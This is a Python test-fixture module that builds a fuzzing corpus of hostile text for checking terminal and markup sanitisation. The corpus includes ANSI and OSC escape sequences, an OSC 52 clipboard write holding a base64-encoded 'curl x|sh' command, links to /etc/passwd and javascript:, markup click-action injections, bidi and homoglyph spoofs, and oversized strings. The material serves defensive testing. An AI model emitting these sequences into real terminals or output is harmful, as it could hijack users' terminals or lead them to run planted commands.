"""Text that attacks a terminal, a markup parser, a row's width or a renderer's patience. Python expressions,
so that no editor or checkout changes them."""

from base64 import b64encode

from hypothesis import strategies as st

#: Characters that no output may contain; newlines are for the layout to make, never for the text.
FORBIDDEN: frozenset[str] = frozenset(
    [
        chr(code)
        for code in (*range(0x20), *range(0x7F, 0xA0), *range(0xD800, 0xE000), *range(0xE0000, 0xE0080))
    ]
    + list("\u00ad\u061c\u180e\u200b\u200c\u200d\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e\ufeff")
    + [chr(code) for code in (*range(0x2060, 0x2070), *range(0xFFF9, 0xFFFC))]
    + list("\u2800\u3164\uffa0\u115f\u1160\ufe0e\ufe0f\u20e3")
)

SEQUENCES: tuple[str, ...] = (
    "\x1b[2J\x1b[H",
    "\x1b[3J",
    "\x1b[31mred",
    "\x1b[8mhidden",
    "\x1b[6n",
    "\x1b[c",
    "\x1b[>c",
    "\x1b[21t",
    "\x1b[?1049l",
    "\x1b[?25l",
    "\x1b[?1003h\x1b[?1006h",
    "\x1b[?2004l",
    "\x1b[5i",
    "\x1b[1;1r",
    "\x1b[38:2::255:0:0m",
    "\x1b[" + "9" * 100_000 + "A",
    "\x1b[10000b",
)
STRINGS: tuple[str, ...] = (
    "\x1b]0;pwn\x07",
    "\x1b]2;pwn\x1b\\",
    "\x1b]52;c;" + b64encode(b"curl x|sh\n").decode() + "\x1b\\",
    "\x1b]52;c;?\x07",
    "\x1b]8;;file:///etc/passwd\x1b\\x\x1b]8;;\x1b\\",
    "\x1b]8;;javascript:alert(1)\x07x",
    "\x1b]50;?\x07",
    "\x1b]4;1;?\x07",
    "\x1b]10;?\x07",
    "\x1b]11;?\x07",
    "\x1b]1337;File=inline=1:AAAA\x07",
    "\x1b]133;A\x07",
    "\x1b]7;file://h/p\x07",
    "\x1b]0;" + "A" * 1_000_000,
    "\x1bP$qm\x1b\\",
    "\x1bP+q544e\x1b\\",
    "\x1bPq#0;2;0;0;0~-\x1b\\",
    "\x1b_Gi=1,a=T,f=100;AAAA\x1b\\",
    "\x1b^x\x1b\\",
    "\x1bXx\x1b\\",
    "\x1bk title\x1b\\",
    "\x1bc",
    "\x1b(0qqq",
    "\x1bGQ;",
    "\x1bZ",
)
LONE_CONTROLS: tuple[str, ...] = tuple(f"a{chr(code)}b" for code in (*range(32), 127))
CONTROLS: tuple[str, ...] = (
    "safe\rFAKE",
    "rm\b\bls",
    "\x0e",
    "\x05",
    "\x9b2J",
    "\x9d52;c;eA==\x9c",
    "\x85",
    "\u2028",
    "\u2029",
    "".join(chr(code) for code in range(0x80, 0xA0)),
)
MARKUP: tuple[str, ...] = (
    "[/",
    "[/]",
    "[red]",
    "[0]",
    "[@click=app.exit]ok[/]",
    "[link='file:///etc/passwd']x[/link]",
    "\\[bold]",
    "\\" * 9 + "[",
    "[$primary]",
    "[on " + "a" * 10**5 + "]",
    ":skull:",
    "{0.__class__}",
    "%s%n",
)
UNICODE: tuple[str, ...] = (
    "\u202etxt.exe",
    "\u2066evil\u2069",
    "\u202a",
    "e" + "\u0301" * 200_000,
    "\u0301\u0301\u0301\u0301\u0301\u0301",
    "р\u0430ypal",
    "\u2170",
    "\uff50\uff57\uff4e",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "\U0001f44d\U0001f3fd",
    "1\ufe0f\u20e3",
    "\U0001f1e9\U0001f1ea",
    "\U0001f1e9",
    "\u231a\ufe0e",
    "\u2764\ufe0f" * 500,
    "".join(chr(0xE0000 + ord(character)) for character in "hidden"),
    "\ud83d",
    "\ude00\ud83d",
    "\ue000\U000f0000\U0010fffd",
    "\ufffe\uffff\ufdd0\U0001ffff",
    "\u3164\uffa0\u115f\u1160\u2800",
    "\u05e9\u05dc\u05d5\u05dd 123",
    "\u0645\u0631\u062d\u0628\u0627",
    "\u1100\u1161\u11a8",
    "\u0939\u093f\u0928\u094d\u0926\u0940",
    "\u6771\u4eac",
    "\ufeffbom",
    "\u00ad\u034f\u17b4",
)
LONG: tuple[str, ...] = ("x" * 1_000_000, "y\n" * 100_000, "\t" * 10_000, "\u6771" * 10_000, "\n" * 100_000)

CORPUS: tuple[str, ...] = (*SEQUENCES, *STRINGS, *LONE_CONTROLS, *CONTROLS, *MARKUP, *UNICODE, *LONG)
#: The same for a terminal, which is slow: lone controls eleven at a time.
PARADE: tuple[str, ...] = (
    *SEQUENCES,
    *STRINGS,
    *("".join(LONE_CONTROLS[number::3]) for number in range(3)),
    *CONTROLS,
    *MARKUP,
    *UNICODE,
    *LONG,
)
#: Harmless, and of every length that matters: what they change on a screen, any text may change.
BENIGN: tuple[str, ...] = (
    "text one",
    "x",
    "",
    "y" * 17,
    "zz " * 2_000,
    *("q" * length for length in range(5_000, 5_100, 12)),  # whose last rows are of every length
    "wwww\n" * 300,
    "A" * 40 + "\n\n" + "B" * 90,
    *(
        chr(ord("C") + number) * length
        for number, length in enumerate((2, 3, 5, 8, 11, 14, 20, 26, 33, 40, 64))
    ),
)
#: Small enough to put together in tests by the thousand.
SHORT: tuple[str, ...] = tuple(text if len(text) <= 400 else text[:400] for text in CORPUS)


def hostile_text() -> st.SearchStrategy[str]:
    """Any text, members of the corpus, and both joined, interleaved and cut."""
    piece = st.one_of(st.text(max_size=40), st.sampled_from(SHORT), st.text(st.characters(), max_size=20))
    joined = st.lists(piece, max_size=4).map("".join)
    woven = st.tuples(piece, piece).map(lambda pair: "".join(a + b for a, b in zip(*pair, strict=False)))
    return st.one_of(piece, joined, woven)
